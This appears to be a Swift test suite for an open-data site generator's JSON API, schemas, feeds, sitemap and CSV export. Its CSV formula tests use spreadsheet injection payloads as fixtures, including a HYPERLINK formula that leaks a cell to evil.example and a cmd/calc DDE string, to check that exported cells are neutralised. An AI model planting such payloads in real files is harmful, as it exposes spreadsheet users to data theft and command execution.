import ContentModel
import Foundation
import JSON
import Loading
import SiteData
import SiteLayout
import TestSupport
import Testing
import Validation

@testable import OpenData

/// Builds a validated site from files held in memory.
func makeSite(_ files: [String: String]) throws -> Site {
    let memory = FileSystem.memory(files: files.reduce(into: [:]) { $0["/s/" + $1.key] = Array($1.value.utf8) })
    let tree = ContentLoader(root: "/s", fileSystem: memory).load()
    let modelFile = try #require(tree.files.first { $0.path == ModelReader.path })
    let model = try #require(ModelReader.read(modelFile.text).0)
    let (site, diagnostics) = SiteResolver.resolve(tree, model: model)
    #expect(!diagnostics.hasErrors, "\(diagnostics)")
    return site
}

let files = [
    "content/site.yaml": """
    title: Sitio "de" prueba
    base_url: https://example.org/sub/
    language: es
    # Without a theme, the words of the built-in pages are the keys unless site.yaml sets them.
    paths: {data: datos}
    collections:
      proyectos:
        title: Proyectos
        status: estado
        expected: 3
        fields:
          title: {type: string, required: true}
          estado: {type: enum, values: {activo: {label: Activo}, parado: Parado}, required: true}
          avance: percent
          socio: {type: ref, to: socios}
          socios: {type: refs, to: socios}
          historial:
            type: list
            of:
              fecha: {type: date, required: true}
              estado: {type: enum, values: [activo, parado]}
              nota: string
      socios:
        fields:
          title: string
          matriz: {type: ref, to: socios}
    """,
    "content/socios/a.md": "---\ntitle: Socio, A\n---\n",
    "content/socios/b.md": "---\ntitle: B\nmatriz: a\n---\n",
    "content/proyectos/p1.md": """
    ---
    title: Uno "con" comillas
    estado: activo
    avance: 40
    socio: a
    socios: [a, b]
    historial:
      - {fecha: 2021-01-05, estado: parado, nota: "Primera\\nlínea"}
      - {fecha: 2022-04, estado: activo, nota: Reinicio}
      - {fecha: 2022-04, estado: activo, nota: Otra el mismo mes}
    ---
    """,
    "content/proyectos/p2.md": "---\ntitle: Dos\nestado: parado\nhistorial:\n  - fecha: 2023\n---\n",
]

@Suite struct JSONValueTests {
    @Test func escapesLineSeparatorsTabsAndReturnsAndKeepsOtherText() {
        let value: JSONValue = ["k\t": ["\t\r\u{2028}\u{2029}€ — ok", .number(1e15), .number(-0.5), [:], []]]
        let expected =
            "{\n  \"k\\t\": [\n    \"\\t\\r\\u2028\\u2029€ — ok\",\n    1000000000000000.0,\n    -0.5,\n    {},\n    []\n  ]\n}\n"
        #expect(value.serialized() == expected)
        #expect(value.serializedBytes() == Array(expected.utf8))
        // At the very end of a string, and beside other characters that start with the same byte.
        let ends: JSONValue = ["…\u{2028}", "\u{1F}\u{2029}", "—"]
        #expect(ends.serialized() == "[\n  \"…\\u2028\",\n  \"\\u001f\\u2029\",\n  \"—\"\n]\n")
    }

    /// Strings are scanned eight bytes at a time: a character to escape is found at every
    /// offset, among ASCII and longer UTF-8 characters (é is C3 A9, — is E2 80 94).
    @Test func escapesACharacterAtEveryOffsetOfALongString() {
        func escaped(_ text: String) -> String {
            text.unicodeScalars.map { scalar -> String in
                switch scalar {
                case "\"": "\\\""
                case "\\": "\\\\"
                case "\n": "\\n"
                case "\r": "\\r"
                case "\t": "\\t"
                case "\u{2028}": "\\u2028"
                case "\u{2029}": "\\u2029"
                case _ where scalar.value < 0x20:
                    "\\u00" + (scalar.value < 0x10 ? "0" : "") + String(scalar.value, radix: 16)
                default: String(scalar)
                }
            }.joined()
        }
        for special in ["\"", "\\", "\n", "\u{1}", "\u{1F}", "\u{2028}", "\u{2029}", "—", "\u{7F}"] {
            for offset in 0..<17 {
                for filler in ["a", "é"] {
                    let text = String(repeating: filler, count: offset) + special + "ñandú y más texto"
                    #expect(JSONValue.string(text).serialized() == "\"" + escaped(text) + "\"\n", "\(offset)")
                }
            }
        }
    }

    @Test func serializesWithSortedKeysAndEscapes() {
        let value: JSONValue = ["b": [1, .number(2.5), true, .null], "a": "x\"\\\n\u{1}é/"]
        #expect(
            value.serialized() == """
                {
                  "a": "x\\"\\\\\\n\\u0001é/",
                  "b": [
                    1,
                    2.5,
                    true,
                    null
                  ]
                }

                """)
    }

    @Test func producesValidJSON() throws {
        let value: JSONValue = ["text": "línea\u{2028}\t\"", "n": .number(0.1), "e": [], "o": [:]]
        let parsed = try JSONSerialization.jsonObject(with: Data(value.serialized().utf8)) as? [String: Any]
        #expect(parsed?["text"] as? String == "línea\u{2028}\t\"")
        #expect(parsed?["n"] as? Double == 0.1)
    }
}

/// Bodies as the rendering stage gives them: one with HTML, one blank (an entry without a body).
let bodies: [EntryKey: StoredText] = [
    EntryKey("proyectos", "p1"): "<h2 id=\"a\">A</h2>\n<p><a href=\"../../socios/a/\">Socio</a></p>\n",
    EntryKey("proyectos", "p2"): "\n",
]

@Suite struct APIDocumentTests {
    @Test func entriesCarryTheirBodyHTMLOrNullWithoutABody() throws {
        let site = try makeSite(files)
        let api = APIDocuments(site: site, bodies: bodies, version: .v1)
        let proyectos = try #require(site.model.collection("proyectos"))
        let p1 = api.document(for: try #require(site.entry(EntryKey("proyectos", "p1"))), in: proyectos)
        #expect(p1["body_html"] == .string(bodies[EntryKey("proyectos", "p1")]!.string))
        let p2 = api.document(for: try #require(site.entry(EntryKey("proyectos", "p2"))), in: proyectos)
        #expect(p2["body_html"] == .null)
        let list = api.list(of: proyectos)
        #expect(list["entries"]?.array?.map { $0["body_html"] } == [.null, p1["body_html"]])
    }

    @Test func entriesCarryLabelsResolvedReferencesBacklinksAndHistory() throws {
        let site = try makeSite(files)
        let api = APIDocuments(site: site, bodies: bodies)
        let proyectos = try #require(site.model.collection("proyectos"))
        let p1 = try #require(site.entry(EntryKey("proyectos", "p1")))
        let document = api.document(for: p1, in: proyectos)
        #expect(document["url"] == "https://example.org/sub/proyectos/p1/")
        #expect(document["fields"]?["estado"] == ["value": "activo", "label": "Activo"])
        #expect(document["fields"]?["avance"] == .number(40))
        #expect(
            document["fields"]?["socio"]
                == [
                    "id": "a", "title": "Socio, A", "url": "https://example.org/sub/socios/a/",
                    "api": "https://example.org/sub/api/v2/socios/a.json",
                ])
        #expect(
            document["history"]?.array?.map { $0["id"] } == [
                "https://example.org/sub/proyectos/p1/#historial-2022-04",
                "https://example.org/sub/proyectos/p1/#historial-2022-04-2",
                "https://example.org/sub/proyectos/p1/#historial-2021-01-05",
            ])
        // Each record says what it changed to and why, without the entry's other fields.
        #expect(document["history"]?.array?.first?["status"] == ["value": "activo", "label": "activo"])
        #expect(document["history"]?.array?.first?["note"] == "Reinicio")
        #expect(document["history"]?.array?.last?["note"] == "Primera\nlínea")
        let p2 = api.document(for: try #require(site.entry(EntryKey("proyectos", "p2"))), in: proyectos)
        #expect(p2["history"]?.array?.first?["status"] == .null)
        #expect(p2["history"]?.array?.first?["note"] == .null)
        let socios = try #require(site.model.collection("socios"))
        let a = api.document(for: try #require(site.entry(EntryKey("socios", "a"))), in: socios)
        // p1 names `a` twice (socio and socios), and b names it as its matriz.
        #expect(a["backlinks"]?.array?.count == 3)
        let rollup = try #require(a["rollups"]?.array?.first)
        #expect(rollup["total"] == 1)
        #expect(rollup["counts"] == ["activo": 1, "parado": 0])
        // Below `a`: p1 (through two fields, and again through b), counted once.
        let deep = try #require(a["deep_rollups"]?.array)
        #expect(deep.count == 1)
        #expect(deep.first?["collection"] == "proyectos")
        #expect(deep.first?["total"] == 1)
        #expect(deep.first?["counts"] == ["activo": 1, "parado": 0])
        #expect(deep.first?["paths"]?.array?.isEmpty == false)
    }

    @Test func theCatalogCountsWhatIsDocumented() throws {
        let catalog = APIDocuments(site: try makeSite(files), bodies: bodies).catalog()
        #expect(catalog["content_date"] == "2023")
        let proyectos = try #require(catalog["collections"]?.array?.first)
        #expect(proyectos["documented"] == 2)
        #expect(proyectos["expected"] == 3)
        #expect(proyectos["csv"] == "https://example.org/sub/datos/proyectos.csv")
    }

    @Test func theCatalogCarriesTheDashboardsCountsAndSnapshots() throws {
        let yaml = files["content/site.yaml"]!.replacingOccurrences(
            of: "    expected: 3\n",
            with:
                "    expected: 3\n    snapshots:\n      - {date: 2020-02, title: Matriz, source: Informe, counts: {parado: 5}}\n"
        )
        var withSnapshot = files
        withSnapshot["content/site.yaml"] = yaml
        let catalog = APIDocuments(site: try makeSite(withSnapshot), bodies: bodies).catalog()
        let proyectos = try #require(catalog["collections"]?.array?.first)
        #expect(
            proyectos["status"] == [
                "field": "estado", "label": "estado", "total": 2, "unset": 0,
                "counts": [
                    ["value": "activo", "label": "Activo", "count": 1],
                    ["value": "parado", "label": "Parado", "count": 1],
                ],
            ])
        #expect(
            proyectos["snapshots"] == [
                [
                    "date": "2020-02", "title": "Matriz", "source": "Informe", "total": 5,
                    "counts": [
                        ["value": "activo", "label": "Activo", "count": 0],
                        ["value": "parado", "label": "Parado", "count": 5],
                    ],
                ]
            ])
        let socios = try #require(catalog["collections"]?.array?.last)
        #expect(socios["status"] == .null)
        #expect(socios["snapshots"] == [])
    }
}

@Suite struct SchemaTests {
    @Test func fieldTypesBecomeSchemas() throws {
        let model = try makeSite(files).model
        let schemas = SchemaDocuments(model: model)
        let entry = schemas.entry(of: try #require(model.collection("proyectos")))
        #expect(entry["$schema"] == "https://json-schema.org/draft/2020-12/schema")
        #expect(entry["$id"] == "https://example.org/sub/api/v2/schema/proyectos/entry.json")
        let fields = try #require(entry["properties"]?["fields"])
        #expect(fields["required"] == ["estado"])
        #expect(fields["properties"]?["estado"]?["properties"]?["value"] == ["enum": ["activo", "parado"]])
        // Each value goes with its own label.
        #expect(
            fields["properties"]?["estado"]?["oneOf"] == [
                ["properties": ["value": ["const": "activo"], "label": ["const": "Activo"]]],
                ["properties": ["value": ["const": "parado"], "label": ["const": "Parado"]]],
            ])
        #expect(fields["properties"]?["avance"]?["maximum"] == 100)
        #expect(fields["properties"]?["socios"]?["items"] == schemas.reference)
        #expect(fields["properties"]?["historial"]?["items"]?["required"] == ["fecha"])
        #expect(entry["properties"]?["url"]?["pattern"] == "^https://example\\.org/sub/")
        #expect(entry["properties"]?["url"]?["format"] == "uri")
    }

    /// `v1` changes additively: no published schema forbids unknown keys.
    @Test func noSchemaForbidsUnknownKeys() throws {
        let model = try makeSite(files).model
        let schemas = SchemaDocuments(model: model)
        func forbids(_ value: JSONValue) -> Bool {
            switch value {
            case .object(let members):
                members["additionalProperties"] == false || members.values.contains(where: forbids)
            case .array(let items): items.contains(where: forbids)
            default: false
            }
        }
        var documents = [schemas.catalog()]
        for collection in model.collections {
            documents += [schemas.list(of: collection), schemas.entry(of: collection)]
        }
        #expect(!documents.contains(where: forbids))
    }

    @Test func rollUpCountsAreKeyedByTheStatusValuesOfTheirCollection() throws {
        let model = try makeSite(files).model
        let entry = SchemaDocuments(model: model).entry(of: try #require(model.collection("socios")))
        let rollup = try #require(entry["properties"]?["rollups"]?["items"])
        #expect(rollup["properties"]?["collection"] == ["enum": ["proyectos"]])
        #expect(
            rollup["allOf"] == [
                [
                    "if": ["required": ["collection"], "properties": ["collection": ["const": "proyectos"]]],
                    "then": [
                        "properties": [
                            "field": ["const": "estado"],
                            "counts": ["propertyNames": ["enum": ["activo", "parado"]]],
                        ]
                    ],
                ]
            ])
    }

    @Test(arguments: [
        ("2022", true), ("2022-04", true), ("2022-04-30", true), ("2022-12-31", true), ("2024-02-29", true),
        ("2022-00", false), ("2022-13", false), ("2022-04-31", false), ("2022-02-30", false), ("2022-01-00", false),
        ("2022-01-32", false), ("22-01", false), ("2022-1-05", false), ("2022-01-05T00:00", false),
    ])
    func datesMatchTheStrictPattern(date: String, valid: Bool) throws {
        let pattern = try NSRegularExpression(pattern: SchemaDocuments.datePattern)
        let range = NSRange(date.startIndex..., in: date)
        #expect((pattern.firstMatch(in: date, range: range) != nil) == valid)
    }

    @Test func regexEscapingKeepsTheBaseURLLiteral() {
        #expect(SchemaDocuments.escapeRegex("https://a.b/c+d(e)?/") == "https://a\\.b/c\\+d\\(e\\)\\?/")
    }
}

@Suite struct FeedTests {
    @Test func oneItemPerDatedRecordNewestFirstWithStableIds() throws {
        let feed = ChangeFeeds(site: try makeSite(files))
        #expect(
            feed.items.map(\.date) == [
                "2023-01-01T00:00:00Z", "2022-04-01T00:00:00Z", "2022-04-01T00:00:00Z", "2021-01-05T00:00:00Z",
            ])
        #expect(
            feed.items.map(\.title) == [
                // The record's enum is a plain list of ids, so its labels are the ids.
                "Dos: historial", "Uno \"con\" comillas: activo", "Uno \"con\" comillas: activo",
                "Uno \"con\" comillas: parado",
            ])
        #expect(feed.items[0].id == "https://example.org/sub/proyectos/p2/#historial-2023")
        #expect(feed.items[3].text == "Primera\nlínea")
        let json = feed.jsonFeed()
        #expect(json["version"] == "https://jsonfeed.org/version/1.1")
        #expect(json["items"]?.array?.count == 4)
    }

    @Test func atomEscapesTextAndGivesTheNewestDate() throws {
        let xml = ChangeFeeds(site: try makeSite(files)).atomFeed()
        #expect(xml.contains("<title>Sitio &quot;de&quot; prueba</title>"))
        #expect(xml.contains("<updated>2023-01-01T00:00:00Z</updated>"))
        #expect(xml.components(separatedBy: "<entry>").count == 5)
    }

    @Test func xmlEscapingDropsForbiddenControlCharacters() {
        #expect(XMLText.escape("a<b>&'\"\u{1}\u{B}\tz") == "a&lt;b&gt;&amp;&apos;&quot;\tz")
    }
}

@Suite struct TabularDataTests {
    @Test func refsFieldsGetALinkTableWithOneRowPerPairAndForeignKeys() throws {
        let data = TabularData(site: try makeSite(files))
        let links = try #require(data.tables.first { $0.name == "proyectos-socios" })
        #expect(TabularData.csv(links) == "proyectos_id,socios_id\r\np1,a\r\np1,b\r\n")
        // The entries table keeps the joined ids for spreadsheets.
        #expect(TabularData.csv(data.tables[0]).contains(",a;b,2022-04,\r\n"))
        let resource = try #require(data.dataPackage()["resources"]?.array?.first { $0["name"] == "proyectos-socios" })
        #expect(resource["schema"]?["primaryKey"] == ["proyectos_id", "socios_id"])
        #expect(
            resource["schema"]?["foreignKeys"] == [
                ["fields": "proyectos_id", "reference": ["resource": "proyectos", "fields": "id"]],
                ["fields": "socios_id", "reference": ["resource": "socios", "fields": "id"]],
            ])
    }

    @Test func aRefsFieldToItsOwnCollectionNamesItsColumnAfterTheField() throws {
        var selfRefs = files
        selfRefs["content/site.yaml"] = files["content/site.yaml"]!.replacingOccurrences(
            of: "      matriz: {type: ref, to: socios}",
            with: "      matriz: {type: ref, to: socios}\n      aliados: {type: refs, to: socios}")
        selfRefs["content/socios/b.md"] = "---\ntitle: B\nmatriz: a\naliados: [a]\n---\n"
        let links = try #require(TabularData(site: try makeSite(selfRefs)).tables.first { $0.name == "socios-aliados" })
        #expect(TabularData.csv(links) == "socios_id,aliados_id\r\nb,a\r\n")
        #expect(links.foreignKeys.map(\.resource) == ["socios", "socios"])
    }

    @Test func csvFollowsRFC4180() throws {
        let tables = TabularData(site: try makeSite(files)).tables
        #expect(
            tables.map(\.path) == [
                "datos/proyectos.csv", "datos/proyectos-socios.csv", "datos/proyectos-historial.csv",
                "datos/socios.csv",
            ])
        #expect(
            TabularData.csv(tables[0]) == "id,title,estado,avance,socio,socios,data_date,file_edited\r\n"
                + "p2,Dos,parado,,,,2023,\r\n" + "p1,\"Uno \"\"con\"\" comillas\",activo,40,a,a;b,2022-04,\r\n")
        #expect(
            TabularData.csv(tables[2]).hasPrefix(
                "proyectos_id,n,fecha,estado,nota\r\np2,1,2023,,\r\np1,1,2021-01-05,parado,\"Primera\nlínea\"\r\n"))
        #expect(TabularData.csv(tables[3]).contains("a,\"Socio, A\",,,\r\n"))
    }

    @Test func theDataPackageDeclaresTypesAndForeignKeys() throws {
        let package = TabularData(site: try makeSite(files)).dataPackage()
        #expect(package["profile"] == "tabular-data-package")
        let resources = try #require(package["resources"]?.array)
        #expect(resources.map { $0["name"] } == ["proyectos", "proyectos-socios", "proyectos-historial", "socios"])
        // A reference to the same collection is a self-reference, written as resource "".
        #expect(
            resources[3]["schema"]?["foreignKeys"] == [
                ["fields": "matriz", "reference": ["resource": "", "fields": "id"]]
            ])
        #expect(resources[2]["schema"]?["primaryKey"] == ["proyectos_id", "n"])
        #expect(
            resources[0]["schema"]?["fields"]?.array?.first { $0["name"] == "avance" }?["constraints"] == [
                "minimum": 0, "maximum": 100,
            ])
    }
}

@Suite struct SitemapTests {
    @Test func pagesOfEntriesWithAKnownLastChangeGetALastmod() throws {
        var site = try makeSite(files)
        site.recordChanges(byFile: ["content/proyectos/p1.md": "2024-03-09"], referenceDate: "2024-05-01")
        let sitemap = OpenDataRenderer(site: site, bodies: [:]).sitemap([
            "index.html", "proyectos/p1/index.html", "proyectos/p2/index.html",
        ])
        #expect(
            sitemap.components(separatedBy: "\n").filter { $0.hasPrefix("  <url>") } == [
                "  <url><loc>https://example.org/sub/</loc></url>",
                "  <url><loc>https://example.org/sub/proyectos/p1/</loc><lastmod>2024-03-09</lastmod></url>",
                "  <url><loc>https://example.org/sub/proyectos/p2/</loc></url>",
            ])
        // A translation's page of the entry carries the same date.
        site.languages = ["en"]
        let translated = OpenDataRenderer(site: site, bodies: [:]).sitemap(["en/proyectos/p1/index.html"])
        #expect(translated.contains("<loc>https://example.org/sub/en/proyectos/p1/</loc><lastmod>2024-03-09</lastmod>"))
    }
}

/// Lists are written entry by entry: the same bytes as the whole tree serialized.
@Suite struct StreamedListTests {
    @Test(arguments: ["valid-site", "pmdot-site"])
    func aStreamedListIsTheListSerialized(site folder: String) throws {
        let tree = ContentLoader(root: Repository.fixtures + "/" + folder).load()
        let modelText = try #require(tree.files.first { $0.path == ModelReader.path }).text
        let (site, _) = SiteResolver.resolve(tree, model: try #require(ModelReader.read(modelText).0))
        // Every entry with a body of its own, so that bodies are streamed too.
        let bodies = Dictionary(
            uniqueKeysWithValues: site.entries.values.joined().map { ($0.key, StoredText("<p>\($0.id) \"é\"</p>\n")) })
        let api = APIDocuments(site: site, bodies: bodies)
        for collection in site.model.collections {
            #expect(api.listBytes(of: collection) == api.list(of: collection).serializedBytes(), "\(collection.name)")
        }
    }

    /// A whole build writes each `v1` list from the bytes of the entries' own documents, a
    /// batch at a time, and makes what `v1` and `v2` documents share once: the files are those
    /// made one by one, in every batch size.
    @Test(arguments: ["valid-site", "pmdot-site"], [1, 2, 1000])
    func aWholeBuildWritesTheListsFromTheEntriesDocuments(site folder: String, batchSize: Int) throws {
        let tree = ContentLoader(root: Repository.fixtures + "/" + folder).load()
        let modelText = try #require(tree.files.first { $0.path == ModelReader.path }).text
        let (site, _) = SiteResolver.resolve(tree, model: try #require(ModelReader.read(modelText).0))
        #expect(site.model.publishesAPIv1)
        let bodies = Dictionary(
            uniqueKeysWithValues: site.entries.values.joined().map { ($0.key, StoredText("<p>\($0.id)\n\"é\"</p>\n")) })
        var files: [String: [UInt8]] = [:]
        OpenDataRenderer(site: site, bodies: bodies).render(pages: [], batchSize: batchSize) { batch in
            for file in batch { files[file.path] = file.bytes }
        }
        for version in [APIVersion.v1, .v2] {
            let api = APIDocuments(site: site, bodies: bodies, version: version)
            for collection in site.model.collections {
                if version == .v1 {
                    let list = try #require(files[DataPaths.list(of: collection, in: .v1)], "\(collection.name)")
                    #expect(list == api.list(of: collection).serializedBytes(), "\(collection.name)")
                }
                for entry in site.entries(of: collection.name) {
                    let path = DataPaths.entry(entry.id, of: collection, in: version)
                    #expect(files[path] == api.document(for: entry, in: collection).serializedBytes(), "\(path)")
                }
            }
        }
    }

    /// An item written into a streamed array is indented line by line, whatever it holds.
    @Test func aStreamedArrayIndentsEachItem() {
        let header: JSONValue = ["b": .int(1), "z": ["y": .array([])]]
        let items: [JSONValue] = [
            ["a": .array([.int(1), ["b": .string("x\ny")]]), "c": .object([:])], .string("\u{2028}"), .int(3),
        ]
        var streamed = header.streamedArray("m")
        for item in items { streamed.append(serialized: item.serializedBytes()) }
        let whole: JSONValue = ["b": .int(1), "z": ["y": .array([])], "m": .array(items)]
        #expect(streamed.finish() == whole.serializedBytes())
        #expect(
            header.streamedArray("a").finish()
                == (["b": .int(1), "z": ["y": .array([])], "a": []] as JSONValue).serializedBytes())
    }

    @Test func anEmptyListIsWrittenAsAnEmptyArray() {
        let header: JSONValue = ["b": .int(1), "z": .null]
        let streamed = header.serializedBytes(streaming: "entries", count: 0) { _ in .null }
        let whole: JSONValue = ["b": .int(1), "z": .null, "entries": .array([])]
        #expect(streamed == whole.serializedBytes())
        let two = header.serializedBytes(streaming: "a", count: 2) { .int($0) }
        #expect(two == (["b": .int(1), "z": .null, "a": .array([.int(0), .int(1)])] as JSONValue).serializedBytes())
    }
}

/// A spreadsheet opening the site's CSV downloads runs no formula written in the content.
@Suite struct CSVFormulaTests {
    static let files = [
        "content/site.yaml": """
        title: Fórmulas
        base_url: https://example.org/
        language: es
        collections:
          socios:
            fields:
              title: {type: string, required: true}
              sigla: string
              fuente: string
              saldo: number
              cuenta: int
              temas: {type: list, of: string}
              historial:
                type: list
                of: {fecha: {type: date, required: true}, nota: string}
        """,
        "content/socios/a.md": """
        ---
        title: '=HYPERLINK("http://evil.example/?"&A1,"Click")'
        sigla: "@SUM(1+1)*cmd|' /C calc'!A0"
        fuente: "+1+1"
        saldo: -12.5
        cuenta: -3
        temas: ["-2+3", normal]
        historial:
          - {fecha: 2024-05, nota: "\\tcmd"}
        ---
        """,
        "content/socios/b.md": "---\ntitle: B\nsigla: a-b\nfuente: 1-1\n---\n",
    ]

    @Test func textCellsThatStartLikeAFormulaGetAQuoteAndNumbersStayTyped() throws {
        let data = TabularData(site: try makeSite(Self.files))
        let tables = data.tables
        #expect(
            TabularData.csv(tables[0]) == "id,title,sigla,fuente,saldo,cuenta,temas,data_date,file_edited\r\n"
                + "a,\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Click\"\")\",'@SUM(1+1)*cmd|' /C calc'!A0,'+1+1,"
                + "-12.5,-3,'-2+3;normal,2024-05,\r\n"
                + "b,B,a-b,1-1,,,,,\r\n")
        #expect(TabularData.csv(tables[1]) == "socios_id,n,fecha,nota\r\na,1,2024-05,'\tcmd\r\n")
        // The Data Package's types are the same: the quote is part of a string's value.
        let fields = try #require(data.dataPackage()["resources"]?.array?.first?["schema"]?["fields"]?.array)
        #expect(
            fields.map { $0["type"] } == [
                "string", "string", "string", "string", "number", "integer", "string", "string", "string",
            ])
    }

    @Test(arguments: [
        ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@a", "'@a"), ("\tx", "'\tx"), ("\rx", "'\rx"),
        ("a=1", "a=1"), (" =1", " =1"), ("", ""), ("'=1", "'=1"),
    ])
    func theFirstCharacterDecides(cell: String, written: String) {
        #expect(TabularData.neutralised(cell) == written)
    }
}

/// `/api/v2/`: lists of each entry's fields with a link to its own document, 1,000 entries a page.
@Suite struct LeanAPITests {
    /// The test site with `count` more partners (`s0001`…), so that `socios` spans pages.
    static func site(partners count: Int) throws -> Site {
        var many = files
        for index in 1...count {
            many["content/socios/s\(String(format: "%04d", index)).md"] = "---\ntitle: S\(index)\n---\n"
        }
        return try makeSite(many)
    }

    @Test func listsHoldFieldsAndLinksNotBodies() throws {
        let site = try makeSite(files)
        let api = APIDocuments(site: site, bodies: bodies)
        let proyectos = try #require(site.model.collection("proyectos"))
        let list = api.listPage(1, of: proyectos)
        let entries = try #require(list["entries"]?.array)
        #expect(entries.map { $0["id"] } == ["p2", "p1"])
        let p1 = try #require(entries.last)
        #expect(p1["body_html"] == nil && p1["history"] == nil && p1["backlinks"] == nil)
        #expect(p1["api"] == "https://example.org/sub/api/v2/proyectos/p1.json")
        #expect(p1["fields"]?["estado"] == ["value": "activo", "label": "Activo"])
        #expect(list["page"] == .int(1) && list["pages"] == .int(1))
        #expect(list["prev"] == .null && list["next"] == .null)
        #expect(list["first"] == "https://example.org/sub/api/v2/proyectos.json")
        // The entry's own document keeps everything, its body too.
        let document = api.document(for: try #require(site.entry(EntryKey("proyectos", "p1"))), in: proyectos)
        #expect(document["body_html"] == .string(bodies[EntryKey("proyectos", "p1")]!.string))
        #expect(document["api"] == p1["api"])
    }

    @Test func aLargeCollectionIsSplitIntoPagesLinkedByNext() throws {
        let site = try Self.site(partners: 2_001)
        let api = APIDocuments(site: site, bodies: [:])
        let socios = try #require(site.model.collection("socios"))
        #expect(site.entries(of: "socios").count == 2_003)
        let pages = (1...3).map { api.listPage($0, of: socios) }
        #expect(pages.map { $0["entries"]?.array?.count } == [1_000, 1_000, 3])
        let ids = pages.flatMap { $0["entries"]?.array ?? [] }.compactMap { $0["id"] }
        #expect(ids.count == 2_003 && Set(ids.map { "\($0)" }).count == 2_003)
        let base = "https://example.org/sub/api/v2/"
        #expect(pages[0]["next"] == .string(base + "socios/pages/2.json"))
        #expect(pages[1]["prev"] == .string(base + "socios.json"))
        #expect(pages[1]["next"] == .string(base + "socios/pages/3.json"))
        #expect(pages[2]["next"] == .null)
        #expect(pages.map { $0["pages"] } == [.int(3), .int(3), .int(3)])
        // The catalog names every page.
        let catalog = api.catalog()
        let entry = try #require(catalog["collections"]?.array?.first { $0["name"] == "socios" })
        #expect(
            entry["pages"] == [
                .string(base + "socios.json"), .string(base + "socios/pages/2.json"),
                .string(base + "socios/pages/3.json"),
            ])
        #expect(entry["api"] == .string(base + "socios.json"))
        #expect(catalog["version"] == "v2")
    }

    @Test func v1IsWrittenOnlyWhileTheSiteKeepsIt() throws {
        let site = try makeSite(files)
        let renderer = { (site: Site) -> [String] in
            var paths: [String] = []
            OpenDataRenderer(site: site, bodies: [:]).render(pages: [], batchSize: 100) { paths += $0.map(\.path) }
            return paths
        }
        let lean = renderer(site)
        #expect(lean.contains("api/v2/index.json") && lean.contains("api/v2/proyectos/p1.json"))
        #expect(lean.contains("api/v2/schema/socios.json"))
        #expect(!lean.contains { $0.hasPrefix("api/v1/") })
        var kept = files
        kept["content/site.yaml"]! += "\napi_v1: true\n"
        let both = renderer(try makeSite(kept))
        #expect(both.contains("api/v1/index.json") && both.contains("api/v1/proyectos.json"))
        #expect(both.contains("api/v1/proyectos/p1.json") && both.contains("api/v2/proyectos/p1.json"))
    }
}

/// A `series` field in the open data: a tidy table per collection and per entry, typed in the
/// Data Package, with formulas neutralised; in the API with its progress; in the feeds.
@Suite struct SeriesOpenDataTests {
    static let files = [
        "content/site.yaml": """
        title: T
        base_url: https://example.org/
        language: es
        paths: {data: datos}
        collections:
          indicadores:
            fields:
              title: {type: string, required: true}
              serie: {type: series, required: true}
        """,
        "content/indicadores/agua.md": """
        ---
        title: Agua
        serie:
          unit: "%"
          direction: up
          baseline: {date: 2019, value: 12}
          targets: [{date: 2025, value: 25}]
          values:
            - {date: 2020, value: 13, source: "=HYPERLINK(\\"x\\")"}
            - {date: 2023, value: 18.5, source: Encuesta, note: provisional}
        ---
        """,
    ]

    @Test func aTidyTableWithOneRowPerPointTypedInTheDataPackage() throws {
        let data = TabularData(site: try makeSite(Self.files))
        let table = try #require(data.tables.first { $0.name == "indicadores-serie" })
        #expect(table.path == "datos/indicadores-serie.csv")
        #expect(
            TabularData.csv(table)
                == "indicadores_id,kind,date,value,unit,direction,source,note\r\n"
                + "agua,baseline,2019,12,%,up,,\r\nagua,target,2025,25,%,up,,\r\n"
                + "agua,value,2020,13,%,up,\"'=HYPERLINK(\"\"x\"\")\",\r\nagua,value,2023,18.5,%,up,Encuesta,provisional\r\n"
        )
        // The entries table leaves the series to its own table.
        #expect(!TabularData.csv(data.tables[0]).contains("serie"))
        let one = try #require(data.seriesTables.first)
        #expect(one.path == "datos/indicadores/agua-serie.csv")
        #expect(one.rows.count == 4)
        let resource = try #require(data.dataPackage()["resources"]?.array?.first { $0["name"] == "indicadores-serie" })
        let fields = try #require(resource["schema"]?["fields"]?.array)
        #expect(fields.first { $0["name"] == "value" }?["type"] == "number")
        #expect(fields.first { $0["name"] == "kind" }?["constraints"]?["enum"] == ["baseline", "target", "value"])
        #expect(resource["schema"]?["primaryKey"] == ["indicadores_id", "kind", "date"])
    }

    @Test func theFeedsHaveAnItemPerMeasuredValue() throws {
        let feeds = ChangeFeeds(site: try makeSite(Self.files))
        let items = try #require(feeds.jsonFeed()["items"]?.array)
        #expect(items.map { $0["title"] } == ["Agua: 18.5 % (2023)", "Agua: 13 % (2020)"])
        #expect(items.first?["content_text"] == "Encuesta\n\nprovisional")
        #expect(items.first?["url"] == "https://example.org/indicadores/agua/#serie-serie")
        #expect(feeds.atomFeed().contains("<updated>2023-01-01T00:00:00Z</updated>"))
    }
}
